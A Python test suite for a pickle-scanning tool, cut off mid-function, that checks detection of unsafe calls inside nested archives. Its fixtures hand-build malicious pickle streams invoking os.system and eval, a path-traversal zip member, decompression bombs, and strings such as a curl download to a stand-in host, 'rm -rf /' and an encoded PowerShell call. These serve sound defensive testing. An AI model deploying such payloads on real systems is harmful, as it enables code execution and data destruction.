import bz2
import glob
import gzip
import io
import lzma
import os
import pickle
import re
import tarfile
import zipfile
import zlib

import duckdb
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from carvelake.functions import fixed_values as V
from carvelake.functions import pattern_index
from carvelake.functions import signals as G
from carvelake.functions.pattern_index import folded, index, required
from carvelake.functions.patterns import flattened
from carvelake.operators import carve, evaluate, machine, slices, verdict
from carvelake.operators.behaviour import with_behaviours
from carvelake.plans import queries, report
from carvelake.plans.rule_texts import RULE_TEXTS
from carvelake.sources import members


def text_op(s):
    b = s.encode()
    return b"X" + len(b).to_bytes(4, "little") + b


def call(module, name, args, proto=2):
    return b"\x80" + bytes([proto]) + f"c{module}\n{name}\n".encode() + args + b"R."


def args(*items):
    return b"(" + b"".join(items) + b"t"


RESOLVED = b"\x80\x02cbuiltins\ngetattr\ncimportlib\nimport_module\n" + args(text_op("os")) + b"R" + text_op("system") + b"\x86R" + args(text_op("id")) + b"R."
BUFFER = b"B" + (lambda d: len(d).to_bytes(4, "little") + d)(pickle.dumps(list(range(30)), 4))
EXAMPLES = {
    "command": (call("os", "system", args(text_op("id"))), "Unsafe"),
    "attribute": (call("builtins", "getattr", args(b"N", text_op("forward"))), "No issue"),
    "resolved": (RESOLVED, "Unsafe"),
    "referenced": (b"\x80\x02cbuiltins\neval\n.", "No issue"),
    "extension": (b"\x80\x02\x82\x07.", "Review"),
    "placeholder": (call("sys", "exit", b")"), "Review"),
    "path": (call("collections", "OrderedDict", args(text_op("/home/u/model.pt"))), "Low"),
    "nested": (call("m", "X", args(BUFFER), 3), "Unsafe"),
    "old name": (call("__builtin__", "eval", args(text_op("1+1"))), "Unsafe"),
    "lost name": (call("__builtin__", "eval", args(text_op("1+1")), 4), "Unsafe"),
    "code": (call("m", "X", args(text_op("x = open_it('some text')\n    y"))), "Unsafe"),
    "call": (call("m", "X", args(text_op("f('abcd')"))), "Review"),
    "plain": (pickle.dumps({"a": [1, "hello"]}, 2), "No issue"),
    "gzip": (gzip.compress(call("os", "system", args(text_op("id")))), "Unsafe"),
    "inside bytes": (b"\x01junk" * 5 + call("os", "system", args(text_op("id"))) + b"zz", "Unsafe"),
}


def test_worked_examples(spark):
    rows = spark.createDataFrame([(k, bytearray(d)) for k, (d, _) in EXAMPLES.items()], "artifact_id string, content binary")
    blobs = carve.carve(rows).persist()
    hits = verdict.scan_blobs(blobs).persist()
    found = {r.artifact_id: r.verdict for r in verdict.artifact_verdicts(rows, blobs, hits, carve.container_findings(rows)).collect()}
    assert found == {k: v for k, (_, v) in EXAMPLES.items()}
    assert {r.blob_id: r.classified for r in report.blob_summary(hits).collect()}["resolved:0"] == 2
    context = report.opcode_context(hits, machine.pickle_ops(blobs))
    assert all("[HIT]" in r.report for r in report.text_report(hits, context).collect())
    assert report.compacted(hits).count() == hits.count()


def boxed(data, kind):
    if kind == "zip":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("a/data.pkl", data)
        return out.getvalue()
    if kind == "tar":
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as t:
            info = tarfile.TarInfo("data.pkl")
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
        return out.getvalue()
    return {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress, "raw": bytes}[kind](data)


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=60), st.lists(st.sampled_from(["zip", "tar", "gzip", "bz2", "xz", "zlib", "raw"]), max_size=4), st.integers(2, 5))
def test_packed_streams_are_recovered(text, layers, proto):
    data = original = pickle.dumps([text, 1], proto)
    for kind in layers:
        data = boxed(data, kind)
    assert original in [b["content"] for b in carve.carve_bytes(data)]


def test_containers():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("../evil.pkl", pickle.dumps([1, 2], 2))
        z.writestr("ok.pkl", pickle.dumps([1, 3], 2))
    data = out.getvalue()
    assert carve.findings(data) == ["../evil.pkl"]
    assert len(carve.carve_bytes(data)) >= 2
    cut = data[: data.index(b"PK\1\2")]
    assert len(carve.carve_bytes(cut)) >= 2
    two = pickle.dumps(["a", 1], 2) + pickle.dumps(["b", 2], 2)
    assert len(carve.carve_bytes(two)) == 2
    assert carve.carve_bytes(b"") == []
    assert carve.carve_bytes(b"\x80\x04\x95") == []


def test_machine_survives_hostile_streams():
    assert machine.call_sites(b"\x80\x02(((ttt") == []
    deep = b"\x80\x02" + b"]" + b"]a" * 5000 + b"."
    assert machine.call_sites(deep) == []
    shared = b"\x80\x02" + text_op("x") + b"q\x00" + b"".join(b"h%c" % 0 + b"h%c" % 0 + b"\x86q\x00" for _ in range(60)) + b"0cm\nX\nh\x00\x85R."
    assert len(machine.call_sites(shared)[0]["literals"]) == 1


def test_no_leaf_of_a_large_call_is_left_out(spark):
    payload = "import os; os.system('ls')"
    items = b"".join(text_op(f"layer{k}") + b"q\x01h\x01" for k in range(5000))
    data = b"\x80\x02cmodels\nLayer\n(" + items + text_op(payload) + b"tR."
    found = machine.call_sites(data)
    assert len(found) == 1 and len(found[0]["literals"]) == 5001 and found[0]["literals"][-1]["text"] == payload and len(found[0]["memo_origins"]) == 5000
    blobs = spark.createDataFrame([("a", bytearray(data)), ("b", bytearray(data))], "blob_id string, content binary")
    rows = machine.scan_calls(blobs).collect()
    assert [(r.call_seq, len(r.literals)) for r in rows] == [(0, 5001)] * 2


TEXTS = ["id", "curl http://x.y/z -o /tmp/a", "import os; os.system('ls')", "/home/u/model.pt", "../etc/passwd", "C:\\windows\\x.dll", "{'abc': 1}", "", "powershell -enc AAAA", "été $(x) naïve", "lambda x: eval(x)", "chmod 755 /bin/x && rm -rf /"]


def test_signals_agree_with_python(spark):
    df = spark.createDataFrame([(t,) for t in TEXTS], "text string")
    rows = G.with_signals(df).withColumnsRenamed({"shell_rules": "shell", "python_rules": "py"}).collect()
    for r in rows:
        assert r.shell == [n for n, _, _, allow, p in V.SHELL_PATTERNS if re.search(p, r.text.strip()) and not allow]
        assert r.py == [n for n, _, _, _, p in V.PYTHON_PATTERNS if re.search(p, r.text)]
        assert [t for t in r.tags if t in {s[0] for s in V.STRUCTURAL_SIGNALS}] == [s[0] for s in V.STRUCTURAL_SIGNALS if re.search(s[4], r.text)]


def test_index_derives_what_a_pattern_requires():
    need = lambda p: {tuple(sorted(v)) for v in required(p)}
    assert need("abc") == {("abc",)} and need("a(?:bc|de)f") == {("abcf",), ("adef",)}
    assert need("a?bcd") == {("abcd",), ("bcd",)} and need("x*bcd") == {("bcd",)} and need("(?:ab)+x") == {("ab", "x")}
    assert need("ab|c*") == set() and need("[ab]c") == {("ac",), ("bc",)} and need("[^a]b") == {("b",)} and need(r"\bAB\s+cd(?=ef)") == {("ab", "cd")}
    assert need("a{2,}") == {("a",)} and need(".*") == set() and need("(?i)K") == {("k",)}
    assert set(index("behaviours").free) == {"ObfuscationBase64.b64_blob"} and not index("signals").free


PIECES_OF_TEXT = [*TEXTS, *(x for loud, _, silent in RULE_TEXTS.values() for x in (loud, silent)), "\n", "\r\n\n", "a=1; b", "CURL HTTP://X/Y ", "lambda_ x:", "\u212aeyboard ", "u\u017fermod \u0130d ", "os.\u017fystem", "|", "%x%", "'abcd'", "0>&1", "x" * 50, "A" * 60 + "=", "svch0st.exe"]


def test_index_filters_no_firing_text_away(spark):
    """With and without the index the same patterns fire, over mixtures of all that fires."""
    import random

    rng = random.Random(4)
    texts = PIECES_OF_TEXT + [t.upper() for t in PIECES_OF_TEXT] + ["".join(rng.choice(PIECES_OF_TEXT) for _ in range(rng.randint(2, 5))) for _ in range(400)] + [None, ""]
    texts += [t[rng.randint(0, 5) : -rng.randint(1, 5)] for t in texts if t]
    df = spark.createDataFrame([(k, t) for k, t in enumerate(texts)], "id int, text string")
    for f in (lambda i: G.with_signals(df, indexed=i), lambda i: with_behaviours(df, "text", indexed=i)):
        assert sorted(map(str, f(True).collect())) == sorted(map(str, f(False).collect()))
    for kind in ("signals", "behaviours"):
        own = index(kind)
        assert own.held(texts).tolist() == [[g in folded(t or "") for g in own.grams] for t in texts]


def test_index_over_slices_of_a_long_text(monkeypatch):
    monkeypatch.setattr(pattern_index, "SLICE", 7)
    own = index("signals")
    texts = ["some plain words and powershell -enc at the end", None, "x" * 40 + "lambda x:", "", "ab"]
    assert own.held(texts).tolist() == [[g in folded(t or "") for g in own.grams] for t in texts]


def test_signals_late_in_a_long_text_count(spark, tmp_path):
    filler = "plain words go on and on " * 6000
    late = "curl http://x.y/z -o /tmp/a && chmod 755 /tmp/a\nimport os; os.system('ls')\n"
    rows = [(1, 0, filler), (2, 0, filler + late)]
    spark.createDataFrame(rows, "doc_id long, turn int, text string").write.parquet(f"{tmp_path}/documents.parquet")
    spark.createDataFrame([], "conv_id long, turn int, text string").write.parquet(f"{tmp_path}/conversations.parquet")
    tags = {r.id: [t.split("(")[0] for t in r.tags] for r in queries.QUERIES["literal_tags"](spark, str(tmp_path)).collect()}
    assert {"has_url", "has_python_code"} <= set(tags[2]) and not {"has_url", "has_python_code"} & set(tags[1])
    scores = {r.doc_id: r for r in queries.QUERIES["shell_and_python_scores"](spark, str(tmp_path)).collect()}
    assert scores[2].shell_score > scores[1].shell_score and scores[2].python_score > scores[1].python_score
    cut = spark.createDataFrame(rows, "doc_id long, turn int, text string")
    cut = G.with_signals(cut, limit=G.REFERENCE_LIMIT)
    assert all("has_url" not in r.tags for r in cut.collect())


def test_verdict_counts_judges_calls(spark, tmp_path):
    texts = TEXTS + ["id", None, "".join(chr(0x4E00 + 37 * k % 9000) for k in range(300)), "plain words " * 6000]
    rows = [(k, 0, t) for k, t in enumerate(texts)]
    spark.createDataFrame(rows, "doc_id long, turn int, text string").write.parquet(f"{tmp_path}/documents.parquet")
    spark.createDataFrame([], "conv_id long, turn int, text string").write.parquet(f"{tmp_path}/conversations.parquet")
    blobs = spark.createDataFrame([(str(k), bytearray(call("models", "Layer", args(text_op(t or ""))))) for k, _, t in rows], "blob_id string, content binary")
    order = ["Unsafe", "Review", "Low", "none"]
    found = {str(k): "none" for k, *_ in rows}
    for r in verdict.scan_blobs(blobs).collect():
        found[r.blob_id] = min(found[r.blob_id], r.verdict, key=order.index)
    want = {v: list(found.values()).count(v) for v in set(found.values())}
    assert {r.verdict: r.n for r in queries.QUERIES["verdict_counts"](spark, str(tmp_path)).collect()} == want


def test_verbose_patterns_are_flattened():
    assert flattened("(?ix)\n a [ #b] \\  # note\n c", False) == "(?i)a[ #b]\\ c"
    assert flattened("[[x]", False) == "[\\[x]"


def test_types():
    import struct

    assert verdict.recover_type(b"") == "T1"
    assert verdict.recover_type(b"plain words") == "T1"
    assert verdict.recover_type(struct.pack("<16d", *[0.5 + k / 9 for k in range(16)])) == "T2"
    assert verdict.recover_type(struct.pack("<16i", *range(16))) == "T2"
    assert verdict.recover_type(b"\x80\x04K\x01.") == "T3"


def test_overlap_fold_against_brute_force(spark):
    rows = [(u, k, (k * 37) % 50, (k * 37) % 50 + k % 9) for u in range(3) for k in range(30)]
    got = {(r.u, r.seq) for r in evaluate.non_overlapping(spark.createDataFrame(rows, "u long, seq long, a long, b long"), "u", "a", "b", "seq").collect()}
    want = set()
    for u in range(3):
        kept = []
        for _, k, a, b in (r for r in rows if r[0] == u):
            if all(b < x or y < a for x, y in kept):
                kept.append((a, b))
                want.add((u, k))
    assert got == want


def shown(df):
    df = df[sorted(df.columns)]
    cell = lambda x: "null" if x is None or x is pd.NA or (isinstance(x, float) and x != x) else f"{x:.6f}" if isinstance(x, float) and x != int(x) else str(int(x)) if isinstance(x, float) else str(x)
    return sorted(tuple(map(cell, r)) for r in df.values.tolist())


@pytest.mark.parametrize("name", sorted(queries.SQL))
def test_query_equals_its_sql(spark, sf, name):
    con = duckdb.connect()
    for p in glob.glob(f"{sf}/*.parquet"):
        con.sql(f"CREATE VIEW {os.path.basename(p)[:-8]} AS SELECT * FROM '{p}'")
    assert shown(queries.QUERIES[name](spark, sf).toPandas()) == shown(con.sql(queries.SQL[name]).df())


def test_entropy_is_of_all_bytes_under_an_id(spark, tmp_path):
    """Empty and null texts have no bytes, so no row; ids in several rows have one. The last texts' entropy is 1.96875, a tie, in one row or two."""
    tie = "".join(x * n for x, n in zip("abcdefg", (1, 1, 2, 4, 8, 16, 32)))
    texts = [(1, "aab"), (1, "bcc"), (1, None), (2, ""), (3, None), (4, ""), (4, "é€"), (None, "xy"), (None, "z"), (5, "a"), (6, tie), (7, tie[::2]), (7, tie[1::2])]
    spark.createDataFrame(texts, "doc_id long, text string").repartition(3).write.parquet(f"{tmp_path}/documents.parquet")
    con = duckdb.connect()
    con.sql(f"CREATE VIEW documents AS SELECT * FROM '{tmp_path}/documents.parquet/*.parquet'")
    found = queries.literal_entropy(spark, str(tmp_path))
    assert shown(found.toPandas()) == shown(con.sql(queries.SQL["literal_entropy"]).df())
    assert {r.doc_id: r.entropy for r in found.collect()} == {1: 1.585, 4: 2.3219, None: 1.585, 5: 0.0, 6: 1.9688, 7: 1.9688}


def test_plans_prune_and_push(spark, sf):
    plan = queries.semi_and_anti_joins(spark, sf)._jdf.queryExecution().executedPlan().toString()
    assert "PushedFilters: [IsNotNull(l_returnflag), EqualTo(l_returnflag,R)" in plan
    plan = queries.rarest_item(spark, sf)._jdf.queryExecution().executedPlan().toString()
    assert "ReadSchema: struct<l_orderkey:bigint,l_partkey:bigint>" in plan


def test_stream_of_a_folder(spark, tmp_path):
    from carvelake.streaming.watch import watch

    (tmp_path / "in").mkdir()
    (tmp_path / "in/a.pkl").write_bytes(EXAMPLES["command"][0])
    (tmp_path / "in/b.pkl").write_bytes(EXAMPLES["plain"][0])
    watch(spark, str(tmp_path / "in"), str(tmp_path / "out"), str(tmp_path / "ck")).awaitTermination(240)
    assert sorted(r.verdict for r in spark.read.parquet(str(tmp_path / "out")).collect()) == ["No issue", "Unsafe"]


def test_nothing_is_ever_loaded():
    root = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "carvelake")
    for p in glob.glob(f"{root}/**/*.py", recursive=True):
        if p.endswith(("fixed_values.py", "vocabulary.py", "rule_texts.py")):  # names and texts as data
            continue
        assert not re.search(r"pickle\.loads?\(|(?<![\w.\"'])eval\(|(?<![\w.\"'])exec\(", open(p).read()), p


def test_every_rule_has_a_firing_and_a_silent_text(spark):
    assert set(RULE_TEXTS) == set(V.BEHAVIOURS)
    rows = [(rule, fires, text) for rule, (loud, _, silent) in RULE_TEXTS.items() for fires, text in ((True, loud), (False, silent))]
    fired = with_behaviours(spark.createDataFrame(rows, "rule string, fires boolean, text string"), "text").withColumn("found", F.col("fired.rule"))
    for r in fired.collect():
        assert sorted(r.found) == sorted([r.rule, *RULE_TEXTS[r.rule][1]]) if r.fires else r.rule not in r.found, r


def test_old_tar_archives_are_opened():
    inner = pickle.dumps(["old", 1], 2)
    box = io.BytesIO()
    with tarfile.open(fileobj=box, mode="w") as t:
        info = tarfile.TarInfo("a.pkl")
        info.size = len(inner)
        t.addfile(info, io.BytesIO(inner))
    head = bytearray(box.getvalue())
    head[257:512] = bytes(255)  # as in archives from before the magic
    head[148:156] = b" " * 8
    head[148:156] = f"{sum(head[:512]):06o}\0 ".encode()
    assert tarfile.is_tarfile(io.BytesIO(bytes(head)))
    found = carve.carve_bytes(bytes(head))
    assert [(b["content"], b["logical_name"].endswith("a.pkl")) for b in found] == [(inner, True)]


def test_memo_reads_begin_a_slice():
    arg = text_op("id") + b"\x85q\x000"
    calls = machine.call_sites(b"\x80\x02" + arg + b"cos\nsystem\nh\x00R0cos\npopen\nh\x00R.")
    assert [(c["qualname"], c["slice_start"]) for c in calls] == [("os.system", 5), ("os.popen", 9)]
    assert [m["defined_at"] for c in calls for m in c["memo_origins"]] == [2, 2]


def test_the_machine_runs_once(spark):
    streams = spark.createDataFrame([("a", bytearray(EXAMPLES["command"][0]))], "blob_id string, content binary")
    plan = verdict.scan_blobs(streams)._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("MapInArrow") == 0 and "LogicalRDD" not in plan and plan.count("Relation") == 1


def test_aliases_are_the_drivers_own_or_given():
    from carvelake.operators import vocabulary

    assert vocabulary.canonical("posix", "system", 4)[0] == "os.system"
    try:
        vocabulary.use_aliases({"posix": frozenset({"popen"})})
        assert vocabulary.canonical("posix", "system", 4)[0] == "posix.system" and vocabulary.canonical("posix", "popen", 4)[0] == "os.popen"
    finally:
        vocabulary.use_aliases({})


def test_large_files_are_carved_by_members_and_windows():
    import random

    rng = random.Random(1)
    streams = [pickle.dumps([f"stream {k}", rng.random()], 2 + k % 3) for k in range(12)]
    noise = lambda: bytes(rng.choice(b"\x01\x7f\xfe") for _ in range(rng.randrange(2000, 9000)))
    raw = b"\x01" + b"".join(noise() + s for s in streams) + noise()
    whole = {b["content"] for b in carve.carve_bytes(raw)}
    assert set(streams) <= whole
    for window in (4096, 30_000, 1 << 20):
        found = list(carve.carve_file(io.BytesIO(raw), window=window, overlap=512))
        assert set(streams) <= {b["content"] for b in found}
        assert all(raw[b["offset_start"] : b["offset_end"]] == b["content"] for b in found if b["content"] in streams)
    for kind in ("zip", "tar"):
        data = boxed(streams[0], kind)
        assert [b["content"] for b in carve.carve_file(io.BytesIO(data))] == [b["content"] for b in carve.carve_bytes(data)]


def _layers(rng):
    """One file of each codec and container, with several streams inside, each far larger than the windows it is read by."""
    streams = [pickle.dumps([f"stream {k}", rng.random()], 2 + k % 3) for k in range(6)] + [pickle.dumps([rng.random() for _ in range(900)], 4)]
    noise = lambda: bytes(rng.choice(b"\x01\x7f\xfe") for _ in range(rng.randrange(2000, 9000)))
    raw = b"\x01" + b"".join(noise() + s for s in streams) + noise()
    out = {"raw": raw} | {k: boxed(raw, k) for k in ("zip", "tar", "gzip", "bz2", "xz", "zlib")}
    out["lzma"] = lzma.compress(raw, format=lzma.FORMAT_ALONE)
    if carve.zstandard:
        out["zstd"] = carve.zstandard.ZstdCompressor().compress(raw)
    head = b"{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % len(raw)
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    out["npy"] = b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + raw
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model/a.pkl", raw)
        z.writestr("model/b.pkl", raw[::-1] + streams[0], zipfile.ZIP_STORED)
        z.writestr("model/c.txt", noise())
    out["members"] = box.getvalue()
    out["headers"] = box.getvalue()[: box.getvalue().index(b"PK\1\2")]
    for outer, inner in (("gzip", "tar"), ("bz2", "zip"), ("tar", "gzip"), ("zip", "xz"), ("xz", "members"), ("gzip", "headers")):
        out[f"{inner} in {outer}"] = boxed(out[inner], outer)
    return streams, out


def test_large_files_lose_no_stream_of_any_layer():
    import random

    streams, files = _layers(random.Random(3))
    for name, data in files.items():
        whole = {b["sha256"] for b in carve.carve_bytes(data) if b["content"] in streams}
        assert len(whole) == len(streams), name
        for window in (len(data) // 10, 4096, 20_000):
            found = list(carve.carve_file(io.BytesIO(data), window=window, overlap=512))
            assert whole <= {b["sha256"] for b in found}, (name, window)
            assert [b["blob_seq"] for b in found] == list(range(len(found))) and not [b for b in found if b["source_kind"] == carve.NOT_SCANNED], (name, window)


def test_what_is_given_up_is_told(monkeypatch):
    monkeypatch.setattr(carve, "RATIO", 20)
    bomb = {k: boxed(bytes(3_000_000), k) for k in ("zip", "gzip", "xz", "zlib")}
    for name, data in bomb.items():
        for found in (carve.carve_bytes(data), list(carve.carve_file(io.BytesIO(data), window=100_000))):
            told = [b["logical_name"] for b in found if b["source_kind"] == carve.NOT_SCANNED]
            if name in ("zip", "gzip", "zlib") or found:
                assert name == "xz" or told, name
    monkeypatch.setattr(carve, "MOST_STREAM", 1 << 14)
    long = pickle.dumps(list(range(50_000)), 2)
    assert any(b["source_kind"] == carve.NOT_SCANNED for b in carve.carve_file(io.BytesIO(b"\x01" + long), window=4096, overlap=64))
    monkeypatch.undo()
    import random

    body = random.Random(2).randbytes(40_000) + pickle.dumps(["kept", 1], 2)
    damaged = gzip.compress(body + random.Random(4).randbytes(40_000))[:-900]
    found = list(carve.carve_file(io.BytesIO(damaged), window=4096, overlap=64))
    assert any(b["source_kind"] == carve.NOT_SCANNED for b in found) and any(b["content"] == pickle.dumps(["kept", 1], 2) for b in found)


def test_scan_job(spark, tmp_path):
    from carvelake import jobs

    (tmp_path / "in").mkdir()
    for name in ("command", "path", "plain", "gzip", "placeholder"):
        (tmp_path / "in" / name).write_bytes(EXAMPLES[name][0])
    (tmp_path / "in" / "long").write_bytes(b"\x01junk" * 400 + EXAMPLES["old name"][0])
    jobs.scan(spark, str(tmp_path / "in"), str(tmp_path / "out"), most_bytes=1500)
    got = {os.path.basename(r.path): r.verdict for r in spark.read.parquet(str(tmp_path / "out/verdicts")).collect()}
    assert got == {"command": "Unsafe", "path": "Low", "plain": "No issue", "gzip": "Unsafe", "long": "Unsafe", "placeholder": "Review"}
    labelled = spark.read.json(str(tmp_path / "out/labelled")).collect()
    assert sorted(r.verdict for r in labelled) == ["Low", "Review", "Unsafe", "Unsafe", "Unsafe"]
    assert "id" in {r.value for r in spark.read.parquet(str(tmp_path / "out/arguments")).collect()}
    jobs.scan(spark, str(tmp_path / "in"), str(tmp_path / "out2"), use_denylist=False, most_bytes=1500)
    plain = {os.path.basename(r.path): r.verdict for r in spark.read.parquet(str(tmp_path / "out2/verdicts")).collect()}
    assert plain["placeholder"] == plain["plain"] == "No issue" and plain["path"] == "Low"
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "twice").write_bytes(b"".join(call("os", "system", args(text_op(f"id {k}")))[2 * (k > 0) : -1] + b"0" for k in range(600)) + b"N.")
    jobs.scan(spark, [str(tmp_path / "more"), str(tmp_path / "gone"), str(tmp_path / "in" / "command")], str(tmp_path / "out3"), most_literal=None)
    assert {os.path.basename(r.path): r.verdict for r in spark.read.parquet(str(tmp_path / "out3/verdicts")).collect()} == {"twice": "Unsafe", "command": "Unsafe"}
    assert [r.path for r in spark.read.parquet(str(tmp_path / "out3/skipped")).collect()] == [str(tmp_path / "gone")]
    assert sorted((r.part, len(r.hits)) for r in spark.read.json(str(tmp_path / "out3/labelled")).collect()) == [(0, 1), (0, 256), (1, 256), (2, 88)]
    with pytest.raises(FileNotFoundError):
        jobs.scan(spark, str(tmp_path / "gone"), str(tmp_path / "out4"))


def test_json_lines_keep_malformed_rows(spark, tmp_path):
    from carvelake.sources import records

    path = tmp_path / "rows.jsonl"
    path.write_text('{"a": 1}\n\n{"b": "x"}\n{broken\n')
    rows = records.read_jsonl(spark, str(path), "a int, b string", strict=False).collect()
    assert sorted(str((r.a, r.b, r._corrupt_record)) for r in rows) == ["(1, None, None)", "(None, 'x', None)", "(None, None, '{broken')"]
    with pytest.raises(Exception, match="(?i)malformed"):
        records.read_jsonl(spark, str(path), "a int, b string").collect()


def test_members_as_a_source(spark, tmp_path):
    import random

    _, files = _layers(random.Random(3))
    for name, data in files.items():
        (tmp_path / name.replace(" ", "_")).write_bytes(data)
    (tmp_path / "plain.pkl").write_bytes(pickle.dumps([1, "x"], 4))
    (tmp_path / "broken.zip").write_bytes(b"PK\3\4" + b"\x00" * 40)
    (tmp_path / "_hidden").write_bytes(b"x")
    for size in (1 << 28, 20_000, 3_000):
        rows = members.read_members(spark, str(tmp_path), rangeBytes=size).collect()
        of = lambda n: sorted((r.member, r.method, r.size) for r in rows if r.path.endswith(f"/{n}"))
        with zipfile.ZipFile(io.BytesIO(files["members"])) as z:
            want = [(i.filename, {0: "stored", 8: "deflated"}[i.compress_type], i.file_size) for i in z.infolist()]
        assert of("members") == of("headers") == sorted(want)
        assert {r.layout for r in rows if r.path.endswith("/headers")} == {"streaming_zip"}
        assert of("tar") == [("data.pkl", "stored", len(files["raw"]))] and len(rows) == len(files) + 2 + 4
        kinds = {os.path.basename(r.path): (r.layout, r.mode, bytes(r.head[:16])) for r in rows if r.member is None}
        assert kinds["gzip"] == ("gzip", "wrapper_payload_extract", files["raw"][:16]) and kinds["lzma"][0] == "lzma" and kinds["plain.pkl"][:2] == ("pickle", "raw_pickle_file")
        assert kinds["tar_in_gzip"][2] == files["tar"][:16] and kinds["raw"][0] == "unknown"
    found = members.read_members(spark, str(tmp_path)).where("member like 'model/%' and length > 0 and path like '%members'")
    plan = found._jdf.queryExecution().executedPlan().toString()
    assert sorted(r.member for r in found.collect()) == ["model/a.pkl", "model/b.pkl", "model/c.txt"] and "StartsWith" not in plan.split("Scan")[0]
    reader = members.MemberReader({"path": str(tmp_path)})
    left = list(reader.pushFilters([members.GreaterThan(("length",), 10**12), members.EqualTo(("size",), 1)]))
    assert [f.attribute for f in left] == [("size",)] and reader.partitions() == []


def test_interval_join_by_bins_against_all_pairs(spark):
    import random

    rng = random.Random(6)
    points = [(rng.choice("ab"), rng.randint(-300, 3000)) for _ in range(400)] + [("a", None), (None, 5)]
    ranges = [(k, rng.choice("abc"), lo := rng.randint(-300, 3000), lo + rng.choice([-1, 0, 1, 255, 256, 257, 2000])) for k in range(60)] + [(99, "a", None, 5), (98, None, 0, 9)]
    p, r = spark.createDataFrame(points, "s string, x int"), spark.createDataFrame(ranges, "id int, s string, lo int, hi int")
    want = sorted((k, x) for k, s, lo, hi in ranges for t, x in points if s is not None and s == t and None not in (lo, hi, x) and lo <= x <= hi)
    for width in (1, 7, 256):
        assert sorted((q.id, q.x) for q in slices.in_ranges(p, r, "s", "x", "lo", "hi", width).collect()) == want


def test_a_hot_stream_is_dealt_over_tasks(spark):
    """A million opcodes of one stream, a thousand hits: the join's rows lie in many partitions."""
    ops = spark.range(1_000_000).selectExpr("'s' as blob_id", "int(id) as idx")
    hits = spark.range(1000).selectExpr("'s' as blob_id", "int(id) as call_seq", "int(id * 1000) as lo", "int(id * 1000 + 99) as hi")
    spark.conf.set("spark.sql.autoBroadcastJoinThreshold", "-1")
    spark.conf.set("spark.sql.adaptive.coalescePartitions.enabled", "false")
    try:
        found = slices.in_ranges(ops, hits, "blob_id", "idx", "lo", "hi").groupBy(F.spark_partition_id().alias("p")).count().collect()
    finally:
        spark.conf.unset("spark.sql.autoBroadcastJoinThreshold")
        spark.conf.unset("spark.sql.adaptive.coalescePartitions.enabled")
    assert sum(r["count"] for r in found) == 100_000 and len(found) == 4 and max(r["count"] for r in found) < 40_000


def test_slice_arguments_against_plain_code(spark):
    import random

    rng = random.Random(9)
    names = ["BINUNICODE", "SHORT_BINUNICODE", "GLOBAL", "STACK_GLOBAL", "TUPLE1", "TUPLE2", "TUPLE3", "EMPTY_TUPLE", "TUPLE", "MARK", "MARK", "REDUCE"]

    def plain(ops, a, b, own):
        part = [o for o in ops if a <= o[0] <= b]
        at = max((i for i, n, _ in part if n in slices.CALLABLE_OPS), default=-1)
        texts = [(i, v) for i, n, v in part if n in slices.UNICODE_OPS]
        arity = next((slices.ARITIES[n] for _, n, _ in reversed(part) if n in slices.ARITIES), None)
        found = []
        if arity is not None:
            found = [v for i, v in texts if i > at][-arity:] if arity else []
        elif (end := next((i for i, n, _ in part if n == "TUPLE"), None)) is not None:
            mark = max((i for i, n, _ in part if n == "MARK" and at < i < end), default=None)
            found = [v for i, v in texts if mark is not None and mark < i < end]
        return [own, *(v for v in found if v != own)] if own else found

    ops, hits, want = [], [], {}
    for s in range(60):
        kinds = names if s % 2 else [n for n in names if not n.startswith("TUPLE") or n == "TUPLE"]
        own = [(k, n := rng.choice(kinds), f"v{rng.randint(0, 9)}" if "UNICODE" in n else None) for k in range(rng.randint(1, 30))]
        ops += [(f"b{s}", *o) for o in own]
        for c in range(4):
            a, b = sorted((rng.randint(0, 30), rng.randint(0, 30)))
            text = rng.choice(["", None, "v1", "other"])
            hits.append((f"b{s}", c, a, b, text))
            want[f"b{s}", c] = plain(own, a, b, text)
    got = {}
    frames = spark.createDataFrame(hits, "blob_id string, call_seq int, slice_start int, slice_end int, text string"), spark.createDataFrame(ops, "blob_id string, idx int, opname string, arg_str string")
    for r in slices.slice_arguments(*frames).orderBy("at").collect():
        got.setdefault((r.blob_id, r.call_seq), []).append(r.value)
    assert got == {k: v for k, v in want.items() if v}


def test_large_numbers_are_shown_whole(spark):
    data = pickle.dumps([10**600, 2**40_000, 1.5], 2)
    shown = [r.arg_str for r in machine.pickle_ops(spark.createDataFrame([("a", bytearray(data))], "blob_id string, content binary")).collect()]
    assert str(10**600) in shown and hex(2**40_000) in shown


def plain_hits(calls):
    """All calls of a stream at once, as plain rules: claims in order, placeholders only where nothing real ends."""
    claimed, out = -1, []
    for seq, op, name, denied, resolver, a, b, any_text, text, any_bytes, data in calls:
        if op == "EXT1":
            if a > claimed:
                claimed = b
                out.append((seq, "unresolvable", False, False, None, b))
            continue
        chosen = any_text if denied else text
        if (denied or chosen is not None) and a > claimed:
            if chosen is not None and not resolver:
                claimed = b
            out.append((seq, "forced_callable" if denied else "content", denied, chosen is None, chosen, b))
        forced = name in V.BYTES_DENYLIST
        chosen = any_bytes if forced else data
        if chosen is not None and a > claimed:
            claimed = b
            out.append((seq, "bytes", forced, False, chosen, b))
    real = {r[-1] for r in out if not r[3]}
    kept, seen = [], set()
    for r in out:
        if not r[3] or (r[-1] not in real and r[-1] not in seen):
            kept.append(r[:-1])
            if r[3]:
                seen.add(r[-1])
    return kept


def test_hits_are_chosen_as_plain_rules_say():
    import random

    rng = random.Random(12)
    for _ in range(300):
        calls, end = [], 0
        for seq in range(rng.randint(1, 12)):
            end += rng.choice([0, 1, 1, 5])
            pick = lambda: rng.choice([None, rng.randint(0, 4)])
            text, data = pick(), pick()
